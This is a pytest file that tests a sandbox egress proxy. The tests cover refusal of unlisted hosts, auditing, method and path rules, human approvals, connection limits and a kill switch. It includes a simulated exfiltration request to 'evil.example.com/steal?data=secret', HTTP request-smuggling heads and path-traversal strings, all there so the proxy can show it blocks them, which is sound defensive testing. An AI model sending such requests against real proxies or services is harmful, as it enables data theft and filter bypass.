"""What no rule names is refused in words, without a look at the network; what people allow counts at once."""

from __future__ import annotations

import asyncio

import httpx
import pytest

from session.catalogue import Approvals
from session.people import Person
from session.policy import EgressEntry, EgressRule
from tests.sandbox.door.stage import BOX, HOST, SESSION, Stage, stage
from tests.sandbox.door.tunnelling import through_tls

OTHER = "evil.example.com"


def presets(port: int) -> list[EgressEntry]:
    return ["python", "forge"]


async def test_a_host_without_a_rule_is_refused_in_words_and_never_looked_up() -> None:
    async with stage() as s:
        answer = await s.ask("POST", "/steal?data=secret", host=OTHER, content=b"x")
        assert answer.status_code == 403
        assert answer.text == (
            f"The door refused POST https://{OTHER}:{s.upstream.port}/steal: no rule of acme/billing names "
            f"{OTHER}. A person can allow it for this session, in its thread.\n"
        )
        assert (s.resolved, s.upstream.connections) == ([], 0)


@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_who_sends_much_to_where_it_may_not_go_still_reads_why(scheme: str) -> None:
    async with stage() as s:
        answer = await s.ask("POST", host=OTHER, scheme=scheme, content=b"x" * 3_000_000)
        assert answer.status_code == 403


async def test_a_refusal_is_kept_and_audited() -> None:
    async with stage() as s:
        await s.ask("POST", "/steal?data=secret", host=OTHER)
        await s.ask("GET", "/again", host=OTHER)
        first, second = s.doors.refusals(BOX, 0)
        assert (first.scheme, first.host, first.port) == ("https", OTHER, s.upstream.port)
        assert (first.method, first.path, first.allowable) == ("POST", "/steal", True)
        assert first.subject == f"POST {OTHER}:{s.upstream.port}"
        assert s.doors.refusals(BOX, first.number) == [second]
        row = (await s.audited())[0].entry
        assert (row.action, row.outcome, row.session_id) == ("egress.request", "refused", SESSION)
        assert row.target == f"POST https://{OTHER}:{s.upstream.port}"
        assert "secret" not in str(row)


async def test_an_allowed_request_is_audited_without_its_query() -> None:
    async with stage() as s:
        await s.ask("GET", "/things?token=secret")
        (row,) = await s.audited()
        assert (row.entry.outcome, row.entry.actor) == ("allowed", f"box {BOX}")
        assert row.entry.detail["path"] == "/things"
        assert "secret" not in str(row.entry)


@pytest.mark.parametrize(
    ("method", "path", "passes"),
    [
        ("GET", "/v1/things", True),
        ("HEAD", "/v1/things", True),
        ("POST", "/v1/things", False),
        ("GET", "/v2/things", False),
        ("GET", "/v1", False),
        ("GET", "/%761/things", False),
        ("GET", "/v1/a%2fb", True),
        ("TRACE", "/v1/things", False),
    ],
)
async def test_a_rule_is_for_its_methods_and_paths(method: str, path: str, passes: bool) -> None:
    async with stage(lambda port: [EgressRule(host=HOST, port=port, paths=("/v1/*",))]) as s:
        answer = await s.ask(method, path)
        assert (answer.status_code == 200) is passes
        assert len(s.upstream.got) == int(passes)


async def test_a_rule_for_everything_lets_no_trace_through() -> None:
    methods = ("GET", "TRACE")
    async with stage(lambda port: [EgressRule(host=HOST, port=port, methods=methods)]) as s:
        answer = await s.ask("TRACE")
        assert answer.status_code == 403
        assert "never leaves a box" in answer.text


@pytest.mark.parametrize(("host", "passes"), [("a.example.com", True), ("example.com", False)])
async def test_a_star_is_for_the_hosts_below(host: str, passes: bool) -> None:
    async with stage(lambda port: [EgressRule(host="*.example.com", port=port)]) as s:
        assert ((await s.ask(host=host)).status_code == 200) is passes


async def test_what_a_person_allows_counts_at_once_and_for_that_method_only() -> None:
    async with stage(lambda port: [EgressRule(host=HOST, port=port)], public=True) as s:
        subject = f"GET {OTHER}:{s.upstream.port}"
        assert (await s.ask(host=OTHER)).status_code == 403
        await s.allow(subject, decided=False)
        assert (await s.ask(host=OTHER)).status_code == 403
        await s.allow(subject)
        assert (await s.ask(host=OTHER)).status_code == 200
        assert (await s.ask("HEAD", host=OTHER)).status_code == 200
        assert (await s.ask("POST", host=OTHER)).status_code == 403


async def test_an_approval_under_another_policy_counts_no_more() -> None:
    async with stage() as s:
        await s.allow(f"GET {OTHER}:{s.upstream.port}", version="before")
        assert (await s.ask(host=OTHER)).status_code == 403


async def test_where_the_policy_says_off_nobody_can_allow() -> None:
    async with stage(approvals=Approvals(egress="off")) as s:
        await s.allow(f"GET {OTHER}:{s.upstream.port}")
        answer = await s.ask(host=OTHER)
        assert answer.status_code == 403
        assert "A person can allow" not in answer.text
        assert not s.doors.refusals(BOX, 0)[0].allowable


async def test_a_package_index_may_be_read_as_the_box_is_set_up() -> None:
    hosts = {"python": lambda port: f"https://{HOST}:{port}"}
    async with stage(presets, package_hosts=lambda port: {"python": (hosts["python"](port),)}) as s:
        assert (await s.ask("GET", "/simple/six/")).status_code == 200
        assert (await s.ask("POST", "/simple/six/")).status_code == 403
        assert (await s.ask("GET", "/simple/six/", host=OTHER)).status_code == 403


async def test_a_preset_that_the_policy_does_not_name_opens_nothing() -> None:
    async with stage(
        lambda port: [EgressRule(host="other.example.com", port=port)],
        package_hosts=lambda port: {"npm": (f"{HOST}:{port}",)},
    ) as s:
        assert (await s.ask("GET", "/left-pad")).status_code == 403


async def test_a_long_request_to_a_package_index_is_refused() -> None:
    async with stage(presets, package_hosts=lambda port: {"python": (f"{HOST}:{port}",)}) as s:
        assert (await s.ask("GET", "/simple/" + "a" * 1900)).status_code == 200
        answer = await s.ask("GET", "/simple/six/?" + "a" * 2100)
        assert answer.status_code == 403
        assert "at most 2048 bytes" in answer.text
        assert (await s.ask("GET", "/simple/six/", headers={"X-Note": "a" * 4100})).status_code == 403


async def test_reading_carries_nothing_out() -> None:
    async with stage() as s:
        answer = await s.ask("GET", content=b"private data")
        assert answer.status_code == 403
        assert s.upstream.connections == 0


async def test_a_port_that_no_rule_names_is_refused_before_tls() -> None:
    async with stage(lambda port: [EgressRule(host=HOST, port=port)]) as s, s.client() as client:
        with pytest.raises(httpx.ProxyError, match="403"):
            await client.get(f"https://{HOST}:8443/")
        assert s.doors.refusals(BOX, 0)[0].subject == f"CONNECT {HOST}:8443"


async def test_while_all_work_is_stopped_everything_is_refused() -> None:
    async with stage() as s:
        await s.switch.engage(Person(id="p_eve", name="Eve"), "an incident")
        with pytest.raises(httpx.ProxyError, match="503"):
            await s.ask()
        assert s.upstream.connections == 0


async def test_without_the_audit_nothing_goes_out() -> None:
    async with stage() as s, s.client() as client:
        assert (await client.get(s.url())).status_code == 200
        await s.database.execute("PRAGMA query_only = ON")
        answer = await client.get(s.url())
        assert answer.status_code == 503
        assert len(s.upstream.got) == 1


async def test_one_connection_too_many_waits_until_another_ends() -> None:
    async with stage() as s:
        held = [await _plain(s) for _ in range(64)]
        served = asyncio.create_task(_served(s))
        # Whoever is turned away is told so at once; this one is not.
        await asyncio.wait({served}, timeout=0.3)
        assert not served.done()
        held.pop()[1].close()
        assert await asyncio.wait_for(served, 60)
        for _, each in held:
            each.close()


async def test_a_box_has_only_so_many_connections() -> None:
    async with stage(queue_seconds=0.1) as s:
        held = [await _plain(s) for _ in range(64)]
        reader, writer = await _plain(s)
        assert (await reader.readline()).startswith(b"HTTP/1.1 503")
        writer.close()
        held.pop()[1].close()
        async with asyncio.timeout(60):
            while not await _served(s):
                continue
        for _, each in held:
            each.close()


@pytest.mark.parametrize(
    ("request_head", "status"),
    [
        ("GET / HTTP/1.1\r\nHost: a\r\n\r\n", 400),
        ("GET https://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n", 400),
        ("GET http://me:pw@api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n", 400),
        ("GET http://api.example.com/ HTTP/1.1\r\nHost: other.example.com\r\n\r\n", 400),
        ("GET http://api.example.com/#x HTTP/1.1\r\nHost: api.example.com\r\n\r\n", 400),
        ("GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nHost: b\r\n\r\n", 400),
        (
            "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 3\r\n"
            "Transfer-Encoding: chunked\r\n\r\n",
            400,
        ),
        (
            "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 3\r\n"
            "Content-Length: 4\r\n\r\n",
            400,
        ),
        ("GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nA : b\r\n\r\n", 400),
        (f"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nA: {'a' * 33_000}\r\n\r\n", 431),
        ("nonsense\r\n\r\n", 400),
    ],
)
async def test_what_can_be_read_in_two_ways_is_refused(request_head: str, status: int) -> None:
    async with stage(lambda port: [EgressRule(host=HOST, port=80)], tls=False) as s:
        reader, writer = await _plain(s)
        writer.write(request_head.encode())
        assert int((await reader.readline()).split()[1]) == status
        writer.close()
        assert s.resolved == []


@pytest.mark.parametrize(
    "path",
    ["/v1/../v2", "/v1/%2e%2e/v2", "/v1/%252e%252e/v2", "/v1//v2", "/v1/..;/v2", "/v1/%5c..", "/v1/.%2e/v2",
     "/v1/%2f%2fv2", "/v1/./v2", "/v1/a%00b"],
)  # fmt: skip
async def test_a_path_with_tricks_is_refused(path: str) -> None:
    async with stage(lambda port: [EgressRule(host=HOST, port=80, paths=("/v1/*",))], tls=False) as s:
        reader, writer = await _plain(s)
        writer.write(f"GET http://{HOST}{path} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        assert (await reader.readline()).startswith(b"HTTP/1.1 400")
        writer.close()
        assert s.resolved == []


async def test_the_host_inside_must_be_the_host_of_the_tunnel() -> None:
    rules = [EgressRule(host=HOST, port=0x1BB), EgressRule(host=OTHER)]
    async with stage(lambda port: [*rules, EgressRule(host=HOST, port=port)]) as s, s.client() as client:
        answer = await client.get(s.url(), headers={"Host": OTHER})
        assert answer.status_code == 400
        assert f"The Host header says {OTHER}" in answer.text
        assert s.upstream.connections == 0


async def test_the_name_in_tls_must_be_the_host_of_the_tunnel() -> None:
    async with stage() as s:
        answer = await asyncio.to_thread(through_tls, s, HOST, OTHER)
        assert answer.startswith("HTTP/1.1 403")
        assert f"asks for {OTHER} instead" in answer
        assert s.upstream.connections == 0


async def _plain(s: Stage) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_unix_connection(str(s.directory / "door.sock"))


async def _served(s: Stage) -> bool:
    reader, writer = await _plain(s)
    writer.write(b"GET / HTTP/1.0\r\n\r\n")
    line = await reader.readline()
    writer.close()
    return line.startswith(b"HTTP/1.1 400")
